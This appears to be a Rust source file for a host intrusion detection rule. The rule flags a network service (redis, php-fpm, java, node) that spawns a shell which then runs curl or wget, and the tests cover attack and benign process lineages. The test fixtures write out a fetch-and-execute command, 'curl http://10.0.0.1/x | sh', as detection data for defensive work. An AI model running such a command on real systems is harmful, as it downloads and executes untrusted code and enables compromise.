//! B1: a service started a shell that downloads.

use crate::{
    detect::{DetectionContext, Finding, signals},
    model::ProcessKey,
    process::{Role, Taint},
};

/// The most programs between the downloader and the service: shells and what they run things with.
const MAX_BETWEEN: usize = 8;

/// A downloader was started: is there a shell above it, and a service above that?
pub fn service_downloader(context: &DetectionContext<'_>) -> Option<Finding> {
    if context.process.role != Role::Downloader {
        return None;
    }
    let mut shell: Option<ProcessKey> = None;
    for ancestor in context.table.ancestry(context.key()).skip(1).take(MAX_BETWEEN) {
        match ancestor.role {
            Role::Shell => shell = Some(ancestor.key()),
            Role::Interpreter | Role::Downloader | Role::Other => {}
            Role::Service => {
                shell?;
                let detail = format!(
                    "service '{}' (pid {}) started a shell that ran '{}'",
                    ancestor.view.name,
                    ancestor.key().pid,
                    context.process.view.name
                );
                let mut finding = Finding::new(signals::SERVICE_DOWNLOADER, context, detail)
                    .with("service", &ancestor.view.executable.path)
                    .with("downloader", &context.process.view.executable.path);
                finding.taint = Some(Taint::FetchesForService);
                return Some(finding);
            }
            Role::Kernel
            | Role::Init
            | Role::LoginService
            | Role::Scheduler
            | Role::ContainerRuntime
            | Role::JobRunner
            | Role::LoginShell
            | Role::PackageManager
            | Role::TextViewer => return None,
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use crate::engine::testing::{Host, findings};

    /// Each program starts the next; the last one downloads.
    fn lineage(programs: &[(&str, &[&str])]) -> Vec<(&'static str, u8)> {
        let mut host = Host::new();
        let mut last = host.boot("/usr/lib/systemd/systemd", &["systemd"]);
        for (path, arguments) in programs {
            last = host.spawn(last, path, arguments);
        }
        findings(&host)
    }

    #[test]
    fn exploited_services() {
        let curl: (&str, &[&str]) = ("/usr/bin/curl", &["curl", "http://10.0.0.1/x"]);
        let shell: (&str, &[&str]) = ("/usr/bin/dash", &["sh", "-c", "curl http://10.0.0.1/x | sh"]);
        let cases: [&[(&str, &[&str])]; 4] = [
            &[("/usr/bin/redis-server", &["redis-server"]), shell, curl],
            &[("/usr/sbin/php-fpm8.2", &["php-fpm"]), shell, ("/usr/bin/bash", &["bash", "-i"]), curl],
            &[
                ("/usr/bin/java", &["java", "-jar", "app.jar"]),
                shell,
                ("/usr/bin/timeout", &["timeout"]),
                curl,
            ],
            &[("/usr/bin/node", &["node", "server.js"]), shell, ("/usr/bin/wget", &["wget", "x"])],
        ];
        for case in cases {
            assert_eq!(lineage(case), [("B1", 35)], "{case:?}");
        }
    }

    #[test]
    fn what_is_usual() {
        let curl: (&str, &[&str]) = ("/usr/bin/curl", &["curl", "http://10.0.0.1/x"]);
        let shell: (&str, &[&str]) = ("/usr/bin/dash", &["sh", "-c", "curl http://10.0.0.1/x"]);
        let cases: [&[(&str, &[&str])]; 6] = [
            &[("/usr/sbin/cron", &["cron"]), shell, curl],
            &[("/usr/sbin/sshd", &["sshd"]), ("/usr/bin/bash", &["-bash"]), curl],
            &[("/usr/bin/node", &["node", "/usr/bin/npm", "install"]), shell, curl],
            &[("/usr/bin/java", &["java", "-jar", "jenkins.war"]), shell, curl],
            &[("/usr/sbin/nginx", &["nginx"]), curl],
            &[("/usr/sbin/php-fpm8.2", &["php-fpm"]), shell, ("/usr/bin/convert", &["convert", "a", "b"])],
        ];
        for case in cases {
            assert!(lineage(case).is_empty(), "{case:?}");
        }
    }
}
